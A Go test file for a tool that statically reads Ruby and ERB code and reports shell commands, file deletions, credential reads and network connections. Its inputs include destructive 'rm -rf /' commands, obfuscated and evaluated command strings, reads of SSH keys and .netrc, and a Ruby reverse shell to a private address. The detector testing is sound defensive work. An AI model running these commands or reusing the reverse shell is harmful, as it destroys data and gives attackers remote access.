package script

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var rubyCommands = []readCase{
	{"system", `system("rm -rf /")`, `shell system "rm -rf /"`},
	{"without brackets", `system "rm -rf /"`, `shell system "rm -rf /"`},
	{"a list", `system "rm", "-rf", "/"`, `runs system "rm" "-rf" "/"`},
	{"a list of words", `system(*%w[rm -rf /]); exec(*%w(rm -rf /))`, "runs system \"rm\" \"-rf\" \"/\"\nruns exec \"rm\" \"-rf\" \"/\""},
	{"an environment and options", `system({"A" => "b"}, "id", chdir: "/")`, `shell system "id" in "/"`},
	{"a directory as an option", `spawn("rm", "-rf", "home", chdir: "/"); system("ls")`, "runs spawn \"rm\" \"-rf\" \"home\" in \"/\"\nshell system \"ls\""},
	{"a directory that is not known", `system "ls", :chdir => d`, `shell system "ls" in …`},
	{"a directory of a call in a call", `system("ls", chdir: "/a", in: f(x, chdir: "/b"))`, `shell system "ls" in "/a"`},
	{"backticks", "puts `id`; %x(ls); %x{rm -rf {a}}", "shell ` \"id\"\nshell ` \"ls\"\nshell ` \"rm -rf {a}\""},
	{"quotes of any kind", `system(%q(id)); system(%Q[id]); system(%(id)); system('id'); system(?a)`, "shell system \"id\"\nshell system \"id\"\nshell system \"id\"\nshell system \"id\"\nshell system \"a\""},
	{"escapes", `system("\x72\u006d -\162f \u{2f}")`, `shell system "rm -rf /"`},
	{"side by side", `system("rm " "-rf /")`, `shell system "rm -rf /"`},
	{"a receiver", `Kernel.system("id"); Process.spawn("id"); Kernel::exec("id"); Object.send(:system, "id")`, "shell system \"id\"\nshell spawn \"id\"\nshell exec \"id\"\nshell system \"id\""},
	{"send", `send(:system, "id"); Kernel.public_send("exec", "id"); 1.send(:system, "id"); __send__ :spawn, "id"`, "shell system \"id\"\nshell exec \"id\"\nshell system \"id\"\nshell spawn \"id\""},
	{"a method as a value", `m = method(:system); m.call("id"); method(:exec).("ls"); %w[a b].each(&method(:system))`, "shell system \"id\"\nshell exec \"ls\"\nshell system \"a\"\nshell system \"b\""},
	{"a class by its name", `Object.const_get(:File).delete("x"); Kernel.const_get("FileUtils").rm_rf("/")`, "deletes File.delete \"x\"\ndeletes FileUtils.rm_rf \"/\" /**"},
	{"a variable", `c = "rm"; c += " -rf /"; system(c)`, "shell system \"rm\"\nshell system \"rm -rf /\""},
	{"a constant and a global", `CMD = "id"; system(CMD); $g = "ls"; system $g; @i = "ps"; system @i`, "shell system \"id\"\nshell system \"ls\"\nshell system \"ps\""},
	{"interpolated", `d = "/"; system("rm -rf #{d}"); system "a#{"b" + "#{'c'}"}"`, "shell system \"rm -rf /\"\nshell system \"abc\""},
	{"code in a string", `puts "x #{system("id")}"`, `shell system "id"`},
	{"joined", `system(["rm", "-rf", "/"].join(" ")); system(%w[rm -rf /].join(' '))`, "shell system \"rm -rf /\"\nshell system \"rm -rf /\""},
	{
		"reversed and turned", `system("/ fr- mr".reverse); system("ID".downcase); system("a" * 3); system(format("%s -rf", "rm"))`,
		"shell system \"rm -rf /\"\nshell system \"id\"\nshell system \"aaa\"\nshell system \"rm -rf\"",
	},
	{
		"decoded", `system(["6964"].pack("H*")); system("aWQ=".unpack1("m")); system("aWQ=".unpack("m")[0]); system([105, 100].pack("c*")); require "base64"; system(Base64.decode64("aWQ="))`,
		"shell system \"id\"\nshell system \"id\"\nshell system \"id\"\nshell system \"id\"\nshell system \"id\"",
	},
	{"a here-document", "system(<<~E)\n  rm -rf /\nE\nsystem <<-'F'\n#{x}\n  F\n", "shell system \"rm -rf /\\n\"\nshell system \"#{x}\\n\""},
	{
		"evaluated", `eval("system('id')"); instance_eval "system 'ls'"; binding.eval("exec 'ps'"); Object.class_eval('system "x"')`,
		"shell system \"id\"\nshell system \"ls\"\nshell exec \"ps\"\nshell system \"x\"",
	},
	{"evaluated at run time", `eval(gets); eval ARGV[0]; instance_eval(x)`, "evaluates eval …\nevaluates eval …\nevaluates instance_eval …"},
	{"for each", "%w[a b].each { |c| system(c) }\n[\"c\"].each do |y|\n  system y\nend\nfor x in [\"d\"]\n system x\nend", "shell system \"a\"\nshell system \"b\"\nshell system \"c\"\nshell system \"d\""},
	{"handed on", `"id".then { |c| system(c) }; "ls".tap { system(_1) }`, "shell system \"id\"\nshell system \"id\"\nshell system \"ls\""},
	{
		"conditions", "system('a') if x\nunless system('b') then system('c') else system('d') end\nbegin; system('e'); rescue; system('f'); ensure; system('g'); end\nx ? system('h') : system('i')\nsystem('j') or system('k')",
		"shell system \"a\"\nshell system \"b\"\nshell system \"c\"\nshell system \"d\"\nshell system \"e\"\nshell system \"f\"\nshell system \"g\"\nshell system \"h\"\nshell system \"i\"\nshell system \"j\"\nshell system \"k\"",
	},
	{"in a method and a lambda", "def f(c)\n  system('id')\nend\ng = ->(x) { system('ls') }\nlambda { system 'ps' }.call", "shell system \"id\"\nshell system \"ls\"\nshell system \"ps\""},
	{"popen and open", `IO.popen("id"); IO.popen(["rm", "-rf", "/"]); open("|ls"); IO.read("|ps")`, "shell IO.popen \"id\"\nruns IO.popen \"rm\" \"-rf\" \"/\"\nshell open \"ls\"\nshell IO.read \"ps\""},
	{
		"Open3", `require 'open3'; Open3.capture2("id"); o, s = Open3.capture2e("rm", "-rf", "/"); Open3.popen3("ls") { |i, o, e, t| puts o.read }`,
		"shell Open3.capture2 \"id\"\nruns Open3.capture2e \"rm\" \"-rf\" \"/\"\nshell Open3.popen3 \"ls\"",
	},
	{"another file", `load "x.rb"; require "./y"; require "json"; require_relative "z"`, "runs load \"ruby\" \"x.rb\"\nruns require \"ruby\" \"./y\"\nruns require_relative \"ruby\" \"z\""},
	{
		"what is not known", `system(x); system("rm #{x}"); exec(*a); send(x, "y"); Marshal.load(z)`,
		"shell system …\nshell system rm …\nshell exec …\nevaluates send …\nevaluates Marshal.load …",
	},
	{"a parameter", "def f(c)\n  system(c)\nend\nf('id')", "shell system …\nshell system \"id\""},
	{"after a pattern with a quote", `if x =~ /"/ then system("id") end # "`, `shell system "id"`},
	{"after a division", `y = 4; x = y / 2; system("id"); z = y/2`, `shell system "id"`},
	{"after documentation", "=begin\nsystem('x')\n=end\nsystem('id')", `shell system "id"`},
	{"keys and symbols", `h = { s: 1, "t" => 2, :u => 3 }; f(a: 1, b: :c); x = y ? 1 : 2; system("id"); h[:s]`, `shell system "id"`},
	{"lines that go on", "x = [1, 2]\n  .map { |v| v }\n  .select do |v|\n    v\n  end\nsystem(\n  'id'\n)", `shell system "id"`},
	{"in a directory", `Dir.chdir("/tmp"); system("ls")`, `shell system "ls" in "/tmp"`},
}

var rubyFiles = []readCase{
	{
		"deleted", `File.delete("a", "b"); File.unlink "c"; Dir.rmdir("d"); File.delete(*Dir.glob("/x/*")); Dir["y/*"].each { |f| File.delete(f) }`,
		"deletes File.delete \"a\"\ndeletes File.delete \"b\"\ndeletes File.unlink \"c\"\ndeletes Dir.rmdir \"d\"\ndeletes File.delete /x/?\ndeletes File.delete y/?",
	},
	{
		"trees", `require 'fileutils'; FileUtils.rm_rf("/x"); FileUtils.rm_r ["a", "b"]; FileUtils::Verbose.rm_rf("c"); include FileUtils; rm_rf "d"`,
		"deletes FileUtils.rm_rf \"/x\" /**\ndeletes FileUtils.rm_r \"a\" /**\ndeletes FileUtils.rm_r \"b\" /**\ndeletes FileUtils.rm_rf \"c\" /**\ndeletes rm_rf \"d\" /**",
	},
	{
		"moved and copied", `FileUtils.mv("a", "b"); FileUtils.cp_r "c", "d"; File.rename("e", "f")`,
		"deletes FileUtils.mv \"a\" /**\nwrites FileUtils.mv \"b\"\nreads FileUtils.cp_r \"c\"\nwrites FileUtils.cp_r \"d\"\ndeletes File.rename \"e\" /**\nwrites File.rename \"f\"",
	},
	{"modes and owners", `File.chmod(0777, "a", "b"); FileUtils.chmod_R 0777, "c"; FileUtils.chown("r", "r", "d")`, "changes File.chmod \"a\"\nchanges File.chmod \"b\"\nchanges FileUtils.chmod_R \"c\" /**\nchanges FileUtils.chown \"d\""},
	{
		"opened", `File.write("a", "x"); File.open("b", "w") { |f| f.puts 1 }; open("c"); File.read("d"); File.new("e", "a"); IO.write("g", "x"); File.open("h").each_line { |l| puts l }`,
		"writes File.write \"a\"\nwrites File.open \"b\"\nreads open \"c\"\nreads File.read \"d\"\nwrites File.new \"e\"\nwrites IO.write \"g\"\nreads File.open \"h\"",
	},
	{
		"home", `File.read(File.join(ENV["HOME"], ".ssh/id_rsa")); File.delete("#{Dir.home}/x"); File.read(File.expand_path("~/.netrc"))`,
		"reads File.read \"~/.ssh/id_rsa\"\ndeletes File.delete \"~/x\"\nreads File.read \"~/.netrc\"",
	},
	{"Pathname", `require 'pathname'; Pathname.new("/x").rmtree; Pathname("a").delete`, "deletes rmtree \"/x\" /**\ndeletes delete \"a\""},
}

var rubyNetwork = []readCase{
	{"a reverse shell", `require 'socket'; f=TCPSocket.open("10.0.0.1",4242).to_i; exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`, "connects TCPSocket.open \"10.0.0.1\"\nshell exec /bin/sh -i <&…"},
	{
		"fetched", `require 'net/http'; Net::HTTP.get(URI("http://a.example/")); require 'open-uri'; URI.open("http://b.example/").read; open("http://c.example/")`,
		"connects Net::HTTP.get \"http://a.example/\"\nconnects URI.open \"http://b.example/\"\nconnects open \"http://c.example/\"",
	},
	{"listening", `TCPServer.new("0.0.0.0", 80)`, `listens TCPServer.new "0.0.0.0"`},
}

// rubyQuiet are programs that only change text.
var rubyQuiet = []string{
	``, `puts 1`, `puts ARGV.map(&:to_i).inject(&:+)`, `puts "system('rm -rf /')"`, `# system("x")`, `puts $_.upcase if /x/`, `print $_.gsub(/a/, "b")`, `puts $<.read.split("\n").sort.uniq`,
	"require 'json'\nputs JSON.pretty_generate(JSON.parse(STDIN.read))", `a = [3, 1, 2].sort { |x, y| y <=> x }; p a, a.first, a[0], a[-1], a[0..1], a.sum / 2.0`,
	"class Foo < Struct.new(:a, :b)\n  attr_reader :x\n  def initialize(x = 1, *rest, k: 2, **o, &blk)\n    @x = x\n    super\n  end\n  def to_s = \"#{@x}\"\n  def self.make(n) new(n) end\n  def ==(o) x == o.x end\n  def [](i) @x[i] end\nend",
	"def fib(n)\n  n < 2 ? n : fib(n - 1) + fib(n - 2)\nend\nputs (1..10).map { |i| fib(i) }.join(', ')", "case x\nwhen 1, 2 then puts 'a'\nwhen /b/ then puts 'c'\nelse puts 'd'\nend",
	"while line = gets\n  next unless line =~ /^\\s*(\\w+)\\s*=/\n  puts $1, $~[0]\nend", `h = Hash.new { |hash, k| hash[k] = [] }; h[:a] << 1; h.each_pair { |k, v| puts "#{k}: #{v.inspect}" }`,
	`x = y = 1; x, y = y, x; a, *b = [1, 2, 3]; x += 1; x ||= 2; x **= 2; puts x <=> y, !x, -x, x ? 1 : 2, x&.foo`, `puts "%05.2f %s" % [1.5, "a"]; puts 'a' 'b'; puts %w[a b].include?("a"), %i[a b], :"a b", ?a`,
	"puts <<~A + <<~B\n  a #{1 + 1}\nA\n  b\nB\n", "begin\n  Integer('x')\nrescue ArgumentError, TypeError => e\n  warn e.message\nensure\n  puts 1\nend", `[1, 2].each_with_index.map { |x, i| x * i }.reduce(:+)`,
	`puts File.basename("/etc/x"), File.exist?("/etc/passwd"), Dir.pwd, __FILE__, __dir__`, `puts Time.now.strftime("%Y-%m-%d"), rand(10), Math.sqrt(2) / 2`, `puts [1,2,3].pack("C*").unpack("H*")`, `$stdout.puts "x"; STDERR.print 1; $stderr.sync = true`,
	"module M\n  X = 1\n  def self.f; X; end\nend\nputs M::X, M.f, M::f", `puts (1..3).step(2).to_a.inspect, 1.upto(3).to_a, 10.digits`, `p(->(x) { x + 1 }.call(1)); f = proc { |a, (b, c), d = 1| a }; f.(1); f[2]`, `puts "a/b".split("/").last, "x".tr('a-z', 'A-Z')`,
	"5.times do |i|\n  puts i\nend", "if x and not y or z\n  puts 1\nelsif !w\n  puts 2\nend unless q", `puts "é".unicode_normalize, "日本".size`, "puts 1\n__END__\nsystem('x')", "x = if a then 1 else 2 end\ny = case z when 1 then 2 end\nputs(x, y)", `puts a.b.c(1).d { |x| x.e }.f(&:g)`,
	`opts = { verbose: true, "k": 1, 'l' => [1, { m: 2 }] }; puts opts.dig('l', 1, :m), opts => { verbose: }`, `alias foo bar; undef baz; puts defined?(x), x.is_a?(Y), x.nil? && !y.empty?`, `puts [*1..3, *[4]], **{}, &nil`,
}

func TestRubyCommands(t *testing.T)            { runCases(t, "ruby", rubyCommands) }
func TestRubyFiles(t *testing.T)               { runCases(t, "ruby", rubyFiles) }
func TestRubyNetwork(t *testing.T)             { runCases(t, "ruby", rubyNetwork) }
func TestRubyThatOnlyChangesText(t *testing.T) { quiet(t, "ruby", rubyQuiet) }

func TestRubyOperands(t *testing.T) {
	acts, err := ReadWith("ruby", `system(ARGV[0]); system(*ARGV)`, CommandLine{Args: []Arg{{Text: "rm", Known: true}, {Text: "-rf", Known: true}, {Text: "/", Known: true}}})
	require.NoError(t, err)
	assert.Equal(t, "shell system \"rm\"\nruns system \"rm\" \"-rf\" \"/\"", show(acts))
}

func TestRubyThatCannotBeRead(t *testing.T) {
	unreadable(t, "ruby", map[string]string{
		"unterminated string":         `puts "x`,
		"unterminated code":           `puts "#{x"`,
		"open bracket":                `puts (1`,
		"closed too much":             `puts 1 }`,
		"brackets crossed":            `(1]`,
		"a here-document without end": "puts <<E\nx\n",
		"a slash after a name":        `foo /2; system("x") #/`,
		"other characters":            "puts \x02",
		"NUL":                         "puts\x00",
		"not UTF-8":                   "puts '\xff'",
		"too deep":                    strings.Repeat("(", 1000) + strings.Repeat(")", 1000),
		"signs too many":              strings.Repeat("! ", 10000) + "1",
		"strings in strings too deep": strings.Repeat(`"#{`, 30) + strings.Repeat(`}"`, 30),
	})
}

func TestRubyIsBounded(t *testing.T) {
	bounded(t, "ruby", map[string]string{
		"doubling":       `a = "x"; ` + strings.Repeat("a = a + a; ", 5000) + "system(a)",
		"statements":     strings.Repeat("c = \"id\"; system(c)\n", 5000),
		"open code":      `"` + strings.Repeat("#{", 20000) + `"`,
		"evaluation":     `c = 'eval c; eval c'; eval c`,
		"lists":          "system(" + strings.Repeat("'a', ", 20000) + "1)",
		"here-documents": strings.Repeat("puts <<E\nE\n", 5000),
		"chains":         "x" + strings.Repeat(".y", 50000),
		"newlines":       "x" + strings.Repeat("\n", 100000) + strings.Repeat("x\n\n\n", 20000),
	})
}

func FuzzRuby(f *testing.F) {
	fuzzed(f, "ruby", append(codes(rubyCommands, rubyFiles, rubyNetwork), rubyQuiet...)...)
}

// What stands between the tags of a template for erb, and on lines with a percent sign.
func TestRubyTemplates(t *testing.T) {
	runCases(t, "erb", []readCase{
		{"a tag", `a <% system("id") %> b`, `shell system "id"`},
		{"a tag that prints", "<%= `id` %>", "shell ` \"id\""},
		{"trimmed", "<%- system('id') -%>\n", `shell system "id"`},
		{"several", "<% if x %>\nsystem('no')\n<% system('id') %><% end %>", `shell system "id"`},
		{"a line", "text\n% system('id')\ntext", `shell system "id"`},
		{"a percent sign of the text", "text\n%% system('id')\n<%% system('id') %>", ""},
		{"a comment", "<%# system('id') %>\n<%= 1 %>", ""},
		{"text alone", `system("id")`, ""},
		{"an end that is missing", `<% system("id")`, `shell system "id"`},
	})
}
